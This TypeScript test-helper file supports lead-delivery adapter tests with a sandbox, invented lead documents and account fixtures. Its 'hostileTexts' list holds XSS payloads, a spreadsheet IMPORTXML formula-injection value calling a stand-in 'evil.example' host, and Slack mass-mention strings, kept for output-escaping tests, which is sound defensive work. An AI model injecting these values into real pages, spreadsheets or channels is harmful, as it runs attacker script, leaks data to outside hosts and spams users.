/** Helpers of destination adapters' tests: a sandbox with movable time, documents about invented people, and deliveries. */
import { type Sandbox, startSandbox } from '@les/sandbox'
import { afterAll, afterEach, beforeAll } from 'vitest'
import { type Egress, openPooledEgress } from '../../../src/platform/egress/index.ts'
import {
  DestinationFailure,
  platformCall,
  type AdapterParts,
  type Connection,
  type DeliveryRecord,
  type DestinationAdapter,
  type LeadDocument,
  type MappingRow,
  type PlatformCall,
  type RecordOutcome,
  type RemoteRecord,
} from '../../../src/providers/destinations/index.ts'

/** A sandbox, an HTTP client and the time. */
export type Stage = {
  readonly sandbox: Sandbox
  readonly call: PlatformCall
  readonly now: () => Date
  move(seconds: number): void
  close(): Promise<void>
}

/** Opens a stage at a fixed moment. */
export async function openStage(): Promise<Stage> {
  let ms = Date.UTC(2026, 10, 28, 9)
  const now = () => new Date(ms)
  const sandbox = await startSandbox({ seed: 'destinations', now })
  const egress: Egress = openPooledEgress()
  return {
    sandbox,
    call: platformCall(egress),
    now,
    move: (seconds) => void (ms += seconds * 1_000),
    close: async () => {
      await egress.close()
      await sandbox.close()
    },
  }
}

/** A document about a person; facts that `more` does not give are known and ordinary. */
export function documentOf(personKey: string, more: Partial<LeadDocument> = {}): LeadDocument {
  return {
    personKey,
    leadId: `0198f2b0-0000-7000-8000-${Buffer.from(personKey).toString('hex').padStart(12, '0').slice(-12)}`,
    name: 'Ada Lovelace',
    firstName: 'Ada',
    lastName: 'Lovelace',
    email: `${personKey}@example.com`,
    linkedinUrl: `https://www.linkedin.com/in/${personKey}`,
    headline: 'Counts things',
    jobTitle: 'CTO',
    country: 'France',
    company: {
      name: 'Acme',
      domain: 'acme.example',
      linkedinUrl: 'https://www.linkedin.com/company/acme',
      industry: 'Computer Software',
      staffRange: '51-200',
      employeeCount: 120,
    },
    isIcp: true,
    fit: 87,
    sourceLabel: 'Acme launches',
    engagementType: 'Comment',
    engagedAt: '2026-11-27T10:00:00.000Z',
    commentText: 'This is what we were looking for',
    postUrl: 'https://www.linkedin.com/feed/update/urn:li:activity:7267000000000000000',
    why: 'CTO in France who commented on a post about launches.',
    stage: null,
    owner: null,
    leadUrl: 'https://leads.example.com/app/leads/1',
    engagements: [
      {
        key: `${personKey}-e1`,
        type: 'Comment',
        at: '2026-11-27T10:00:00.000Z',
        postUrl: 'https://www.linkedin.com/feed/update/urn:li:activity:7267000000000000000',
        commentText: 'This is what we were looking for',
        sourceLabel: 'Acme launches',
      },
    ],
    ...more,
  }
}

/** Texts that mean something to a browser, a spreadsheet or a channel. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  'Fish & Chips',
  '=IMPORTXML("https://evil.example","//a")',
  '@channel',
  '<!channel>',
  '"><img src=x onerror=alert(1)>',
] as const

/** A connection validated by the adapter's schemas, as the delivery module makes it. */
export function connect<Settings, Credentials>(
  adapter: DestinationAdapter<Settings, Credentials>,
  { settings = {}, credentials, mapping = [] }: { settings?: object; credentials: object; mapping?: MappingRow[] },
): Connection<Settings, Credentials> {
  return { settings: adapter.settings.parse(settings), credentials: adapter.credentials.parse(credentials), mapping }
}

/** The record of a document, with the person's key as its id. */
export const recordOf = (document: LeadDocument, remote: RemoteRecord | null = null): DeliveryRecord => ({
  id: document.personKey,
  document,
  remote,
  isSample: false,
})

/** The single outcome of a person; fails unless there is exactly one. */
export function outcomeFor(outcomes: readonly RecordOutcome[], id: string): RecordOutcome {
  const found = outcomes.filter((outcome) => outcome.id === id)
  if (found.length !== 1) throw new Error(`${found.length} outcomes for ${id}: ${JSON.stringify(outcomes)}`)
  return found[0]!
}

/** The failure of work that must fail. */
export async function failureOf(work: Promise<unknown>): Promise<DestinationFailure> {
  const error = await work.then(
    (value) => new Error(`it worked: ${JSON.stringify(value)}`),
    (thrown: unknown) => thrown,
  )
  if (error instanceof DestinationFailure) return error
  throw error
}

/** A platform that gives every request the same answer. */
export const answeringAll =
  (
    status: number,
    body: string,
    headers: Record<string, string> = { 'content-type': 'application/json' },
  ): PlatformCall =>
  async () => ({ status, headers, body: Buffer.from(body) })

/** Adapter parts with another HTTP client. */
export const partsOf = (stage: Stage, baseUrl: string, call: PlatformCall = stage.call): AdapterParts => ({
  call,
  baseUrl,
  tokenUrl: stage.sandbox.addresses.destinations.google_token,
  now: stage.now(),
})

/** Records of documents, each with the remote record of an earlier delivery. */
export const recordsOf = (documents: readonly LeadDocument[], known: readonly RecordOutcome[] = []): DeliveryRecord[] =>
  documents.map((document) => {
    const before = known.find(({ id }) => id === document.personKey)
    return recordOf(document, before?.state === 'written' ? before.remote : null)
  })

/** Options of a delivery in a test of one kind. */
export type Delivering = {
  readonly settings?: object
  readonly mapping?: MappingRow[]
  readonly known?: readonly RecordOutcome[]
}

/** One kind against its twin, with a new account for every test. */
export function useAccounts<Settings, Credentials>(
  adapter: DestinationAdapter<Settings, Credentials>,
  {
    address,
    credentials,
    settings = {},
  }: {
    readonly address: keyof Sandbox['addresses']['destinations']
    readonly credentials: (key: string) => object
    readonly settings?: object
  },
) {
  const opened: { stage?: Stage } = {}
  let turn = 0
  beforeAll(async () => {
    opened.stage = await openStage()
  })
  afterEach(() => opened.stage!.sandbox.world.reset())
  afterAll(() => opened.stage?.close())
  const key = () => `${adapter.kind}-account-${turn}-secret`
  const parts = () => partsOf(opened.stage!, opened.stage!.sandbox.addresses.destinations[address])
  const at = (more: object = {}, mapping: MappingRow[] = []) =>
    connect(adapter, { settings: { ...settings, ...more }, mapping, credentials: credentials(key()) })
  return {
    stage: () => opened.stage!,
    world: () => opened.stage!.sandbox.world,
    key,
    parts,
    at,
    newAccount: () => void (turn += 1),
    deliver: (documents: readonly LeadDocument[], { settings, mapping, known }: Delivering = {}) =>
      adapter.deliver(parts(), at(settings, mapping), recordsOf(documents, known)),
  }
}
